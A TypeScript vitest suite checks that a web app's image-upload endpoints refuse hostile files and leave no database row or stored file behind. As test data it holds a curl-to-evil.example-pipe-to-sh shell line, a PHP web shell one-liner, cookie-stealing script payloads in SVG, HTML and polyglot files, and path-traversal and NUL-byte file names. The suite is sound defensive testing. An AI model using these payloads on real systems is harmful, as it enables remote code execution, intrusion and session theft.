/**
 * Hostile uploads on every endpoint that takes files (gallery add, product add, product update):
 * each is refused with a 4xx, and afterwards there is no new row, no new file in DATA_DIR, and
 * nothing written outside it.
 */
import fs from 'node:fs/promises';
import path from 'node:path';
import { API, SERVER_ERRORS, type GalleryResponse } from '@agro/shared';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { insertTestProduct } from '../fixtures.js';
import { buildTestApp, type TestApp } from '../helper.js';
import { makeImage, noisyPng, pixelBombPng } from '../images-fixtures.js';
import { PRODUCT_TEXT_FIELDS, dataSnapshot, newAdminSession, type Session } from './endpoints.js';

let t: TestApp;
let admin: Session;
let productId: string;
let good: Buffer;

beforeAll(async () => {
  t = await buildTestApp();
  admin = await newAdminSession(t);
  productId = await insertTestProduct(t.db);
  good = await makeImage('png', 40, 30, 777);
});
afterAll(() => t.close());

interface Part {
  name: string;
  /** A raw Content-Disposition filename value (may hold anything, NUL included), or a ready parameter. */
  filename?: string;
  disposition?: string;
  type?: string;
  data: Buffer;
}

const BOUNDARY = '----hostileBoundary7MA4YWxk';

/** A multipart body written by hand: FormData would clean up the hostile file names. */
function rawMultipart(parts: readonly Part[]): { payload: Buffer; headers: Record<string, string> } {
  const chunks: Buffer[] = [];
  for (const p of parts) {
    let head = `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${p.name}"`;
    if (p.disposition !== undefined) head += `; ${p.disposition}`;
    else if (p.filename !== undefined) head += `; filename="${p.filename}"`;
    if (p.filename !== undefined || p.disposition !== undefined) head += `\r\nContent-Type: ${p.type ?? 'image/png'}`;
    chunks.push(Buffer.from(`${head}\r\n\r\n`, 'latin1'), p.data, Buffer.from('\r\n'));
  }
  chunks.push(Buffer.from(`--${BOUNDARY}--\r\n`));
  return { payload: Buffer.concat(chunks), headers: { 'content-type': `multipart/form-data; boundary=${BOUNDARY}` } };
}

const SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="alert(1)">' +
  '<script>alert(document.cookie)</script><rect width="40" height="40" fill="red"/></svg>';

const text = (name: string, value: string): Part => ({ name, data: Buffer.from(value) });

/** Every way a file reaches the server, each next to a valid image that would be stored first. */
function targets(bad: (field: string) => Part[]): { name: string; method: 'POST' | 'PATCH'; url: string; parts: Part[] }[] {
  const fields = PRODUCT_TEXT_FIELDS.map(([n, v]) => text(n, v));
  return [
    {
      name: 'gallery',
      method: 'POST',
      url: API.addImages,
      parts: [{ name: 'galleryImages', filename: 'ok.png', data: good }, ...bad('galleryImages')],
    },
    { name: 'product add: thumbnail', method: 'POST', url: API.addProduct, parts: [...fields, ...bad('productThumbnail')] },
    {
      name: 'product add: images',
      method: 'POST',
      url: API.addProduct,
      parts: [...fields, { name: 'productThumbnail', filename: 'ok.png', data: good }, ...bad('productImages')],
    },
    {
      name: 'product update',
      method: 'PATCH',
      url: API.updateProduct(productId),
      parts: [text('_id', productId), { name: 'productImages', filename: 'ok.png', data: good }, ...bad('productThumbnail')],
    },
  ];
}

/** Every file under `dir`, relative, except the database and the mail outbox. */
async function filesUnder(dir: string): Promise<string[]> {
  const entries = await fs.readdir(dir, { recursive: true, withFileTypes: true }).catch(() => []);
  return entries
    .filter((e) => e.isFile())
    .map((e) => path.relative(dir, path.join(e.parentPath, e.name)))
    .filter((f) => !f.startsWith('agro.sqlite') && !f.startsWith('outbox'))
    .sort();
}

async function everything() {
  const parent = path.dirname(t.dataDir);
  return {
    data: await dataSnapshot(t),
    files: await filesUnder(t.dataDir),
    // Anything a `../` name could have reached.
    beside: (await fs.readdir(parent)).filter((f) => /evil|passwd|cron/i.test(f)),
  };
}

async function expectRefused(bad: (field: string) => Part[], status: number, message: string): Promise<void> {
  for (const target of targets(bad)) {
    const before = await everything();
    const { payload, headers } = rawMultipart(target.parts);
    const res = await t.app.inject({ method: target.method, url: target.url, payload, headers: { ...headers, cookie: admin.cookie } });
    expect(res.statusCode, `${target.name}: ${res.body}`).toBe(status);
    expect(res.json(), target.name).toEqual({ success: false, message });
    expect(await everything(), target.name).toEqual(before);
  }
}

describe('hostile uploads: a 4xx, no row, no file', () => {
  const notImage = SERVER_ERRORS.notAnImage;

  it.each([
    ['a shell script renamed .png', Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n'), 'run.png', 'image/png'],
    ['a PHP script renamed .png', Buffer.from('<?php system($_GET["c"]); ?>'), 'shell.png', 'image/png'],
    ['a JavaScript file declared as an image', Buffer.from('alert(document.cookie)'), 'x.jpg', 'image/jpeg'],
    // Valid, drawable SVGs (the image library can decode them): only the allow-list refuses them.
    ['an SVG with a script', Buffer.from(SVG), 'logo.svg', 'image/svg+xml'],
    ['an SVG named .png', Buffer.from(`<?xml version="1.0"?>${SVG}`), 'logo.png', 'image/png'],
    ['an HTML page', Buffer.from('<!doctype html><html><script>alert(1)</script></html>'), 'page.png', 'text/html'],
    [
      'a GIF header on an HTML page (GIFAR-style polyglot)',
      Buffer.from('GIF89a/*<html><script>alert(1)</script></html>*/=1;'),
      'x.gif',
      'image/gif',
    ],
    [
      'a JPEG header on a script (polyglot)',
      Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from('<script>alert(1)</script>')]),
      'x.jpg',
      'image/jpeg',
    ],
    ['a PDF renamed .png', Buffer.from('%PDF-1.4\n1 0 obj<</JS (app.alert(1))>>endobj'), 'doc.png', 'image/png'],
    ['a ZIP renamed .png', Buffer.from('PK\x03\x04\x14\x00\x00\x00\x08\x00', 'latin1'), 'a.png', 'image/png'],
  ])('%s -> 415', async (_name, data, filename, type) => {
    await expectRefused((field) => [{ name: field, filename, type, data }], 415, notImage);
  });

  it('a truncated PNG and a truncated JPEG -> 415', async () => {
    const png = await noisyPng(200, 200);
    const jpeg = await makeImage('jpeg', 300, 300, 5);
    await expectRefused(
      (field) => [{ name: field, filename: 'cut.png', data: png.subarray(0, Math.floor(png.length / 2)) }],
      415,
      notImage,
    );
    await expectRefused((field) => [{ name: field, filename: 'cut.jpg', type: 'image/jpeg', data: jpeg.subarray(0, 200) }], 415, notImage);
  });

  it('a pixel bomb (a few hundred bytes claiming 30000 x 30000 pixels) -> 413, refused from its header', async () => {
    const bomb = pixelBombPng(30_000, 30_000);
    expect(bomb.length).toBeLessThan(1024);
    const started = Date.now();
    await expectRefused((field) => [{ name: field, filename: 'bomb.png', data: bomb }], 413, SERVER_ERRORS.imageTooManyPixels);
    // Four requests; decoding 900 megapixels even once would take far longer.
    expect(Date.now() - started).toBeLessThan(8000);
  });

  it('a 25 MB file -> 413', async () => {
    // A real PNG header, so only the size can refuse it.
    const big = Buffer.alloc(25 * 1024 * 1024, 7);
    good.copy(big, 0, 0, 64);
    await expectRefused((field) => [{ name: field, filename: 'huge.png', data: big }], 413, SERVER_ERRORS.fileTooLarge);
  });

  it('100 files in one request -> 413', async () => {
    const images = await Promise.all(Array.from({ length: 100 }, (_, i) => makeImage('png', 8, 8, 2000 + i)));
    await expectRefused(
      (field) => images.map((data, i) => ({ name: field === 'productThumbnail' ? 'productImages' : field, filename: `f${i}.png`, data })),
      413,
      SERVER_ERRORS.tooManyFiles,
    );
  });

  it.each([
    ['../../evil.png', 'filename="../../evil.png"'],
    ['..\\..\\evil.png', 'filename="..\\..\\evil.png"'],
    ['/etc/cron.d/evil.png', 'filename="/etc/cron.d/evil.png"'],
    ['RFC 5987 encoded ../', "filename*=UTF-8''..%2F..%2Fevil.png"],
    ['a NUL byte', 'filename="evil.png\u0000.sh"'],
    ['a control character', 'filename="evil\u001b[31m.png"'],
  ])('a file name with %s -> 400, even on a valid image', async (_name, disposition) => {
    await expectRefused((field) => [{ name: field, disposition, data: good }], 400, SERVER_ERRORS.badFileName);
  });
});

describe('what a hostile upload cannot do even when it is a valid image', () => {
  it('a valid PNG carrying a script after its end is stored re-encoded, without the script', async () => {
    const payloadText = '<html><script>alert(document.cookie)</script></html>';
    const polyglot = Buffer.concat([await noisyPng(40, 40), Buffer.from(payloadText)]);
    const { payload, headers } = rawMultipart([{ name: 'galleryImages', filename: 'photo.png', data: polyglot }]);
    const res = await t.app.inject({ method: 'POST', url: API.addImages, payload, headers: { ...headers, cookie: admin.cookie } });
    // Phones append data after an image's end (motion photos), so the image is accepted; the
    // re-encoding is what drops the payload.
    expect(res.statusCode, res.body).toBe(200);
    const list = res.json<GalleryResponse>().galleryImages[0]!.galleryImages;
    const stored = list.at(-1)!;
    const url = new URL(stored.secure_url).pathname;
    expect(url).toMatch(/^\/uploads\/[a-f0-9]{32}\.webp$/);
    const served = await t.app.inject({ method: 'GET', url });
    expect(served.headers['content-type']).toBe('image/webp');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expect(served.rawPayload.subarray(0, 4).toString('latin1')).toBe('RIFF');
    expect(served.rawPayload.includes(Buffer.from('<script'))).toBe(false);
  });
});
